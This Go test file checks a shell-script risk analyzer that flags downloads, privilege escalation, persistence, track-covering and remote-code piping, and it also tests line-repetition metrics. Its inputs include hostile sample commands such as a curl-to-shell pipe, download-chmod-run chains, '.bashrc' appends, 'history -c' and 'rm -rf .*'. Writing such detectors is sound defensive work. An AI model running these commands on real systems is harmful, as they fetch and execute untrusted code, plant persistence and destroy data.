package behavior

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestAnalyze_Clean(t *testing.T) {
	r := Analyze("echo hello")
	if r.RiskBehaviorCount != 0 {
		t.Errorf("expected no behaviors, got %d (%+v)", r.RiskBehaviorCount, r.Behaviors)
	}
	if r.TotalBehaviorsChecked != 12 {
		t.Errorf("expected 12 predicates checked, got %d", r.TotalBehaviorsChecked)
	}
	want := Metrics{TotalLines: 1, UniqueLines: 1, RepetitionRatio: 1}
	if r.CodeMetrics != want {
		t.Errorf("metrics = %+v, want %+v", r.CodeMetrics, want)
	}
}

func TestAnalyze_DownloadChmodRun(t *testing.T) {
	r := Analyze("curl http://x/y -O file && chmod 777 file && ./file")

	want := map[string]bool{
		"has_network_activity": true,
		"escalates_privileges": true,
		"downloads_files":      true,
		"immediate_execution":  true,
	}
	for _, f := range r.Behaviors {
		if f.Set != want[f.Name] {
			t.Errorf("%s = %v, want %v", f.Name, f.Set, want[f.Name])
		}
	}
	if r.RiskBehaviorCount != 4 {
		t.Errorf("expected 4 behaviors, got %d", r.RiskBehaviorCount)
	}
}

func TestAnalyze_Predicates(t *testing.T) {
	tests := []struct {
		name   string
		flag   string
		script string
		want   bool
	}{
		{"wget", "has_network_activity", "wget http://host/a", true},
		{"etc write", "modifies_system_files", "echo x > /etc/hosts", true},
		{"base64 upper", "uses_encoding", "BASE64 -d blob", true},
		{"bashrc", "creates_persistence", "echo x >> ~/.bashrc", true},
		{"sudo upper", "escalates_privileges", "SUDO id", true},
		{"nohup", "hides_processes", "nohup ./x", true},
		{"nohup upper is case-sensitive", "hides_processes", "NOHUP ./x", false},
		{"trailing ampersand", "hides_processes", "./miner &\n", true},
		{"ampersand mid-text", "hides_processes", "./miner &\necho done", false},
		{"wget -O", "downloads_files", "wget http://h/a -O a", true},
		{"wget -o lower", "downloads_files", "wget -o log http://h/a", true},
		{"plain wget", "downloads_files", "wget http://h/a", false},
		{"curl pipe sh", "executes_remote_code", "curl -s http://h/i | sh", true},
		{"curl no pipe", "executes_remote_code", "curl -s http://h/i > i.sh", false},
		{"chmod then run", "immediate_execution", "chmod 755 a; ./a", true},
		{"chmod plus x", "immediate_execution", "chmod +x a; ./a", false},
		{"history clear", "covers_tracks", "history -c", true},
		{"rm dotfiles", "covers_tracks", "rm -rf .*", true},
		{"four arch tokens", "multi_architecture_targeting", "x86_64 mips arm i386", true},
		{"three arch tokens", "multi_architecture_targeting", "x86_64 mips arm", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := Analyze(tt.script).Behaviors.Get(tt.flag)
			if !ok {
				t.Fatalf("unknown predicate %q", tt.flag)
			}
			if got != tt.want {
				t.Errorf("%s(%q) = %v, want %v", tt.flag, tt.script, got, tt.want)
			}
		})
	}
}

func TestAnalyze_Repetition(t *testing.T) {
	script := strings.TrimSuffix(strings.Repeat("/bin/bash -i\n", 10), "\n")
	r := Analyze(script)

	if set, _ := r.Behaviors.Get("has_repetitive_patterns"); !set {
		t.Error("expected has_repetitive_patterns")
	}
	if r.RiskBehaviorCount != 1 {
		t.Errorf("expected only repetition to be flagged, got %+v", r.Behaviors)
	}
	want := Metrics{TotalLines: 10, UniqueLines: 1, RepetitionRatio: 10}
	if r.CodeMetrics != want {
		t.Errorf("metrics = %+v, want %+v", r.CodeMetrics, want)
	}
}

func TestAnalyze_TrailingNewlineCountsAsLine(t *testing.T) {
	r := Analyze("a\na\n")
	want := Metrics{TotalLines: 3, UniqueLines: 2, RepetitionRatio: 1.5}
	if r.CodeMetrics != want {
		t.Errorf("metrics = %+v, want %+v", r.CodeMetrics, want)
	}
	if set, _ := r.Behaviors.Get("has_repetitive_patterns"); set {
		t.Error("3 lines over 2 unique is not above the 1.5 factor")
	}
}

func TestAnalyze_RatioRounded(t *testing.T) {
	r := Analyze("a\na\nb")
	if r.CodeMetrics.RepetitionRatio != 1.5 {
		t.Errorf("expected 1.5, got %v", r.CodeMetrics.RepetitionRatio)
	}
	r = Analyze("a\na\na\na\nb\nc")
	if r.CodeMetrics.RepetitionRatio != 2 {
		t.Errorf("expected 2, got %v", r.CodeMetrics.RepetitionRatio)
	}
	r = Analyze("a\na\nb\nb\nc\nc\nd\ne\nf\ng\nh")
	// 11 lines over 8 unique
	if r.CodeMetrics.RepetitionRatio != 1.38 {
		t.Errorf("expected 1.38, got %v", r.CodeMetrics.RepetitionRatio)
	}
}

func TestReport_JSONKeepsPredicateOrder(t *testing.T) {
	data, err := json.Marshal(Analyze("echo hello"))
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	s := string(data)

	last := -1
	for _, name := range Names() {
		i := strings.Index(s, `"`+name+`":false`)
		if i < 0 {
			t.Fatalf("missing %s in %s", name, s)
		}
		if i < last {
			t.Errorf("%s out of order in %s", name, s)
		}
		last = i
	}
	for _, key := range []string{`"risk_behavior_count":0`, `"total_behaviors_checked":12`, `"repetition_ratio":1`} {
		if !strings.Contains(s, key) {
			t.Errorf("expected %s in %s", key, s)
		}
	}

	var decoded map[string]any
	if err := json.Unmarshal(data, &decoded); err != nil {
		t.Fatalf("output is not valid JSON: %v", err)
	}
}
